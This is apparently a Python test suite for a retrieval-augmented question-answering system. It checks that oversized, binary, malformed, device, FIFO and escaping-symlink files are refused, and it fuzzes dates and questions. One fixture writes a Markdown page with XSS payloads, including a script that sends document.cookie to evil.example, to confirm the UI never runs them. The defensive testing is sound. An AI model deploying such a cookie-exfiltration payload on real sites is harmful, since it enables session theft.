"""Hostile documents and hostile questions: indexed correctly within bounded memory, or refused by name.

Documents: huge, binary, one giant line, NUL bytes, bad UTF-8, HTML/script, devices, FIFOs, symlinks, `..`.
Questions, dates and files: property-based (hypothesis), thousands of generated inputs in all.
"""

from __future__ import annotations

import contextlib
import gzip
import itertools
import json
import os
import re
import subprocess
import sys
import tempfile
import time
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from eval.questions import load_questions
from rag import Answer, Assistant, Index, build_index
from rag.chunk import MAX_SENTENCE_TOKENS, PYSBD_MAX_CHARS, chunk, count_tokens
from rag.embed import Embedder
from rag.errors import DocumentError, InvalidQuestionError
from rag.parse import MAX_BYTES, parse
from rag.periods import DateInterpreter
from rag.readers.text import canonical
from rag.retrieve import Filters
from rag.settings import DEFAULT_CORPUS, OFFLINE_ENV, Settings

QUESTIONS = [q.question for q in load_questions()]
PROSE = ("The Quad Senior Cyber Group met in Tokyo on Dec. 5, 2023. Mr. Kishida spoke with U.S. officials about "
         "chips, e.g. memory! Did the talks work? ")


def child_env() -> dict[str, str]:
    return {**os.environ, **OFFLINE_ENV}


def check_passages(document_source: str, passages: list) -> None:  # type: ignore[type-arg]
    """The invariants every consumer relies on."""
    for p in passages:
        assert document_source[p.char_start : p.char_end] == p.text and p.text == p.text.strip() and p.text
        assert p.sentences and all(p.char_start <= a < b <= p.char_end for a, b in p.sentences)
        assert p.sentences[0][0] == p.char_start and p.sentences[-1][1] == p.char_end
    spans = [(p.char_start, p.char_end) for p in passages]
    assert spans == sorted(spans) and all(b <= c for (_, b), (c, _) in itertools.pairwise(spans))


# --------------------------------------------------------------------------- hostile documents

#: Parses a file in a child process and reports its peak memory above what importing rag costs.
MEASURE = r"""
import json, resource, sys
from rag.chunk import chunk
from rag.errors import DocumentError
from rag.parse import parse
def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
base = peak()
try:
    doc = parse(sys.argv[1])
    passages = chunk(doc) if sys.argv[2] == "chunk" else []
    out = {"blocks": len(doc.blocks), "passages": len(passages)}
except DocumentError as exc:
    out = {"refused": str(exc)}
out["peak_mb"] = peak() - base
print(json.dumps(out))
"""


def measure(path: Path, then: str = "parse") -> dict:  # type: ignore[type-arg]
    result = subprocess.run([sys.executable, "-c", MEASURE, str(path), then], capture_output=True, text=True,
                            env=child_env(), timeout=600)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    return json.loads(result.stdout)


def test_a_200_mb_file_is_refused_unread(tmp_path: Path) -> None:
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as fh:  # sparse: 200 MB in a second, no disk used
        fh.truncate(200 * 1024 * 1024)
    try:
        out = measure(huge)
    finally:
        huge.unlink()
    assert str(huge) in out["refused"] and "too large" in out["refused"] and "limit 20 MiB" in out["refused"]
    assert out["peak_mb"] < 20, out


def test_a_file_just_under_the_limit_is_parsed_in_bounded_memory(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    paragraph = (PROSE * 8 + "\n\n").encode()
    with big.open("wb") as fh:
        fh.write(b"Title\n" + paragraph * ((MAX_BYTES - 4096) // len(paragraph)))
    out = measure(big)
    big.unlink()
    assert out["blocks"] > 10_000
    assert out["peak_mb"] < 6 * MAX_BYTES / 2**20, out  # a few copies of the text, not a blow-up


def test_a_5_mb_line_is_indexed_in_bounded_time_and_memory(tmp_path: Path) -> None:
    line = tmp_path / "one-line.txt"
    line.write_text("Title\n" + PROSE * (5 * 2**20 // len(PROSE)) + "\n", encoding="utf-8")
    started = time.perf_counter()
    out = measure(line, "chunk")
    assert out["passages"] > 5000 and out["peak_mb"] < 600, out
    assert time.perf_counter() - started < 240  # pysbd on it alone would take hours


@pytest.mark.parametrize("kind", ["prose", "words", "no-spaces", "chronology", "markdown-spaces"])
def test_giant_lines_keep_every_invariant(tmp_path: Path, kind: str) -> None:
    """Giant paragraphs use the linear regex splitter; runaway "sentences" are cut at word (or token) bounds."""
    n = 300_000
    text = {
        "prose": PROSE * (n // len(PROSE)),
        "words": "word " * (n // 5),
        "no-spaces": "a" * n,
        "chronology": "Dec. 5, 2023: " + "word " * (n // 5),
        "markdown-spaces": "# A" + " " * n + "b\n\nDec. 5, 2023:" + " " * n + "x",
    }[kind]
    path = tmp_path / ("giant.md" if kind.startswith("markdown") else "giant.txt")
    path.write_text("Title\n" + text + "\n", encoding="utf-8")
    started = time.perf_counter()
    doc = parse(path)
    passages = chunk(doc)
    assert time.perf_counter() - started < 60
    check_passages(doc.source, passages)
    covered = "".join(doc.source[a:b] for p in passages for a, b in p.sentences)
    assert re.sub(r"\s+", "", covered) == re.sub(r"\s+", "", "".join(doc.text(b) for b in doc.blocks))
    budget = Settings().max_tokens
    if kind == "prose":  # real sentences: passages end at sentence ends and stay in budget
        assert all(p.text.endswith(("?", "!", ".")) and p.n_tokens <= budget for p in passages)
        assert len(doc.source) > PYSBD_MAX_CHARS
    else:  # one runaway sentence: pieces of about max_tokens, cut at whitespace when there is any
        assert all(p.n_tokens <= budget + 4 for p in passages)
        if kind in ("words", "chronology"):
            assert all(p.text.split()[-1] in ("word", "x") for p in passages if p.kind == "article")
    if kind == "chronology":
        assert {p.date_start for p in passages} == {"2023-12-05"}


def test_normal_long_sentences_are_not_cut(settings: Settings) -> None:
    """The runaway-sentence cut only applies beyond MAX_SENTENCE_TOKENS: the briefing's passages are as before."""
    doc = parse(DEFAULT_CORPUS)
    longest = max(count_tokens(doc.source[a:b]) for p in chunk(doc) for a, b in p.sentences)
    assert longest < MAX_SENTENCE_TOKENS


@pytest.mark.slow
def test_a_giant_line_builds_an_index_that_answers_from_it(tmp_path: Path, embedder: Embedder) -> None:
    line = PROSE * 100 + "The Lantern Accord on undersea cables was signed in Reykjavik. " + PROSE * 100
    path = tmp_path / "giant.txt"
    path.write_text("Notes\n" + line + "\n", encoding="utf-8")
    index = build_index([path], tmp_path / "idx", embedder=embedder, progress=False)
    answer = Assistant(index, embedder=embedder).answer("Where was the Lantern Accord on undersea cables signed?")
    assert "Reykjavik" in answer.text
    check_answer(index, answer)


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("nul.txt", b"A fine paragraph.\n\x00\nAnother one.\n", "NUL bytes"),
        ("utf16.txt", "A briefing saved as UTF-16 without a BOM.\n".encode("utf-16-le"), "NUL bytes"),
        ("archive.txt", gzip.compress(b"A compressed briefing." * 50), "looks binary"),
        ("random.txt", bytes(range(0x80, 0x100)) * 4, "not valid UTF-8 (byte 0)"),
        ("mixed.txt", b"A long valid start. " * 100 + bytes([0x81, 0x8D, 0x8F, 0x90, 0x9D, 0xFF]) * 3,
         "not valid UTF-8 (byte 2000)"),
        ("headings.txt", b"Only A Heading\nAnd Another\n", "no paragraphs"),
    ],
    ids=["nul", "utf16", "gzip", "high-bytes", "mixed", "headings"],
)
def test_bad_files_are_refused_by_name_without_a_traceback_or_an_index(tmp_path: Path, name: str, content: bytes,
                                                                       reason: str) -> None:
    from click.testing import CliRunner

    from rag.cli import main

    bad = tmp_path / name
    bad.write_bytes(content)
    result = CliRunner().invoke(main, ["index", "build", "--quiet", "--index-dir", str(tmp_path / "idx"), str(bad)])
    assert result.exit_code == 1 and str(bad) in result.output and reason in result.output, result.output
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
    assert not (tmp_path / "idx").exists()  # files are checked before anything is written


def test_devices_and_fifos_are_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        with pytest.raises(DocumentError, match="not a regular file") as info:
            parse(path)  # opening a FIFO would wait for a writer; reading /dev/zero would never end
        assert str(path) in str(info.value)


@pytest.mark.slow
def test_one_bad_file_among_good_ones_leaves_the_previous_index(tmp_path: Path, embedder: Embedder) -> None:
    build_index([DEFAULT_CORPUS], tmp_path / "idx", embedder=embedder, progress=False)
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"\xff\xfe broken")
    with pytest.raises(DocumentError, match="bad.txt"):
        build_index([DEFAULT_CORPUS, bad], tmp_path / "idx", embedder=embedder, progress=False)
    assert sorted(p.name for p in (tmp_path / "idx").iterdir() if not p.name.startswith("build-")) == [
        ".lock", "current"]


def test_markdown_with_html_and_scripts_is_indexed_as_text(tmp_path: Path, embedder: Embedder) -> None:
    path = tmp_path / "page.md"
    path.write_text(
        "# Page\n\n<div onclick=\"alert(1)\">The Osprey fleet was grounded after the crash.</div>\n\n"
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n"
        "## Chronology\n\n- Dec. 6, 2023: <b>Osprey</b> flights halted <img src=x onerror=alert(2)>.\n",
        encoding="utf-8",
    )
    doc = parse(path)
    passages = chunk(doc)
    check_passages(doc.source, passages)
    assert any("<script>" in p.text for p in passages)  # stored verbatim: offsets stay true to the source
    index = build_index([path], tmp_path / "idx", embedder=embedder, progress=False)
    answer = Assistant(index, embedder=embedder).answer("Why was the Osprey fleet grounded?")
    check_answer(index, answer)
    from ui import render

    html = render.render_answer(answer, 1) + render.render_sources(answer, 1)
    assert "<script" not in html and "<img" not in html and "<div onclick" not in html  # shown, never run


def test_a_symlink_leaving_its_folder_is_refused_naming_both(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("Private Key\nThe password is hunter2.\n", encoding="utf-8")
    (corpus / "brief.txt").symlink_to(secret)
    with pytest.raises(DocumentError, match="is a symlink to .*secret.txt, outside its folder") as info:
        parse(corpus / "brief.txt")
    assert f"name {secret.resolve()} itself" in str(info.value)
    assert parse(secret).blocks  # named directly, the same file is indexed


def test_a_symlink_within_its_folder_and_dotdot_paths_are_followed(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    real = corpus / "sub" / "real.txt"
    real.write_text("Notes\nA paragraph about trade.\n", encoding="utf-8")
    (corpus / "link.txt").symlink_to(Path("sub") / "real.txt")
    assert parse(corpus / "link.txt").path == str(real.resolve())
    dotted = corpus / "sub" / ".." / "sub" / "real.txt"
    doc = parse(dotted)
    assert doc.path == str(real.resolve()) and ".." not in doc.path  # the manifest records where it really is


def test_a_folder_argument_is_refused(tmp_path: Path) -> None:
    with pytest.raises(DocumentError, match="is a folder"):
        parse(tmp_path)


# --------------------------------------------------------------------------- property-based: files

_LINE_PARTS = st.sampled_from([
    "Dec. 5, 2023:", "Nov. 30-Dec. 2, 2023: ", "- **Sept. 1, 2023**: ", "Feb. 30, 2023:", "Dec. 99-1, 2023:",
    "# ", "## ", "#", "**", "Heading", "A sentence.", " Mr. Smith met Dr. Jones.", "Why?", "…", "\t", "  ",
    "<script>x</script>", "\ufeff", "é", "日本", "\u2028", "\r", "\x0b", "[1]", "`", "\\",
])
_DOC_TEXT = st.lists(
    st.one_of(_LINE_PARTS, st.text(max_size=12), st.sampled_from(["\n", "\n\n", "\r\n"])), max_size=40
).map("".join)


_FILES = tempfile.TemporaryDirectory(prefix="hostile-files-")


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=_DOC_TEXT, markdown=st.booleans())
def test_parse_and_chunk_any_text(text: str, markdown: bool) -> None:
    path = Path(_FILES.name) / ("doc.md" if markdown else "doc.txt")
    path.write_text(text, encoding="utf-8", newline="")
    try:
        doc = parse(path)
    except DocumentError as exc:
        assert str(path) in str(exc)
        return
    if not markdown:  # the text as stored: line breaks as \n, no BOM (a Markdown table of dates is rewritten)
        assert doc.source == canonical(text.removeprefix("\ufeff"))
    previous_end = 0
    for b in doc.blocks:
        assert previous_end <= b.char_start < b.char_end <= len(text)
        previous_end = b.char_end
        if b.kind == "chronology":
            assert b.date_start and b.date_end and date.fromisoformat(b.date_start) <= date.fromisoformat(b.date_end)
    check_passages(doc.source, chunk(doc, Settings(max_tokens=16)))


# --------------------------------------------------------------------------- property-based: dates

_DATE_PARTS = st.sampled_from([
    "Jan.", "Feb.", "February", "Sept.", "sep", "May", "may", "Dec.", "december", "30", "29", "31", "0", "00", "99",
    "1", "-", "–", " ", ", ", "2023", "2024", "1900", "0000", "9999", "99999999999999999999999", "between", "from",
    "and", "to", "early", "mid", "late", "end of", "in", "the month of", "of", "st", "th", "?", ".",
])
_DATE_TEXT = st.one_of(
    st.lists(_DATE_PARTS, max_size=14).map(" ".join),
    st.lists(_DATE_PARTS, max_size=14).map("".join),
    st.text(max_size=60),
)


@settings(max_examples=3000, deadline=None)
@given(text=_DATE_TEXT, years=st.sampled_from([[], [2023], [1999, 2024]]))
@example(text="What happened on Feb. 30?", years=[2023])
@example(text="Dec. 99-1", years=[2023])
@example(text="between Dec. 31 and Jan. 1", years=[2023])
@example(text="Feb. 29", years=[2023])
@example(text="in February 9999", years=[])
@example(text="Sept. 99999999999999999999999, 2023", years=[2023])
def test_date_interpreter_never_raises(text: str, years: list[int]) -> None:
    period = DateInterpreter(years=years).interpret(text)
    if period is not None:
        assert period.start <= period.end and period.phrase and period.phrase in text


def test_impossible_dates_are_not_periods() -> None:
    di = DateInterpreter(years=[2023])
    assert di.interpret("What happened on Feb. 30?") is None
    assert di.interpret("Dec. 99-1") is None
    assert di.interpret("Feb. 29") is None and di.interpret("Feb. 29, 2024") is not None


# --------------------------------------------------------------------------- property-based: questions


def check_answer(index: Index, answer: Answer) -> None:
    """An answer's citations are all there, and every offset points into the source it names."""
    assert isinstance(answer, Answer) and answer.text and 0.0 <= answer.confidence <= 1.0
    numbers = [c.n for c in answer.citations]
    assert numbers == list(range(1, len(numbers) + 1))
    assert {int(n) for n in re.findall(r"\[(\d+)\]", answer.text)} <= set(numbers)
    for c in answer.citations:
        p = c.passage
        assert index.source(p.doc)[p.char_start : p.char_end] == p.text
        assert p.char_start <= c.highlight_start < c.highlight_end <= p.char_end
    for p in answer.passages:
        assert index.source(p.doc)[p.char_start : p.char_end] == p.text
    json.dumps(answer.to_dict())  # what the API sends


_QUESTION = st.one_of(
    st.text(max_size=80),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=300),
    st.builds(lambda q, junk, at: q[:at] + junk + q[at:], st.sampled_from(QUESTIONS), st.text(max_size=8),
              st.integers(0, 200)),
    st.builds(lambda q, n: (q + " ") * n, st.sampled_from(QUESTIONS), st.integers(1, 6)),
    st.sampled_from(["", " ", "\x00", "\u202e", "\ufeff", "?", "[1]", "Dec. 99-1?", "x" * 2001, "🙂" * 50]),
)
#: Questions at the length limit cost ~1 s each (the model's tokenizer runs once per cut), so only a few.
_HUGE = [("Kishida Osprey Quad " * 200)[:n] for n in (1999, 2000, 2001)]


# ~1,200 answers at ~15 ms each
@pytest.mark.slow
@settings(max_examples=1200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(question=_QUESTION, previous=st.one_of(st.none(), st.sampled_from(QUESTIONS), st.text()),
       k=st.one_of(st.none(), st.integers(1, 12)),
       filters=st.one_of(st.none(), st.builds(Filters, kinds=st.sampled_from([("article",), ("chronology",)]))))
@example(question="What did the Quad do in November?", previous=None, k=None, filters=None)
@example(question="And in December?", previous="What did the Quad do in November?", k=None, filters=None)
@example(question=_HUGE[0], previous=None, k=None, filters=None)
@example(question=_HUGE[1], previous=_HUGE[0], k=3, filters=None)
@example(question=_HUGE[2], previous=None, k=None, filters=None)
@example(question="And in December?", previous=_HUGE[1], k=None, filters=None)
def test_answer_never_raises_and_cites_validly(assistant: Assistant, question: str, previous: str | None,
                                               k: int | None, filters: Filters | None) -> None:
    with one_blas_thread():
        try:
            answer = assistant.answer(question, k=k, filters=filters, previous=previous)
        except InvalidQuestionError as exc:
            assert str(exc)
            return
    check_answer(assistant.index, answer)


def one_blas_thread() -> contextlib.AbstractContextManager[object]:
    """The numpy query encoder on one BLAS thread: on busy shared cores OpenBLAS's threads, spinning next to
    torch's, were seen to make a question cost 450 ms instead of 15 ms, and this test would take minutes."""
    try:
        from threadpoolctl import threadpool_limits
    except ImportError:
        return contextlib.nullcontext()
    return threadpool_limits(limits=1, user_api="blas")


@pytest.mark.parametrize("text", ["\x1f", "Dec. 5, 2023: A meeting.\u2028\x1f", "Intro line.\n\x1c\x1d"])
def test_markdown_lines_that_only_python_calls_whitespace(text: str, tmp_path: Path) -> None:
    """Control characters Markdown reads as text but Python as whitespace: no empty block, no trailing newline."""
    path = tmp_path / "doc.md"
    path.write_text(text, encoding="utf-8", newline="")
    try:
        doc = parse(path)
    except DocumentError:
        return
    for b in doc.blocks:
        assert b.char_start < b.char_end
        assert doc.source[b.char_start:b.char_end] == doc.source[b.char_start:b.char_end].strip()
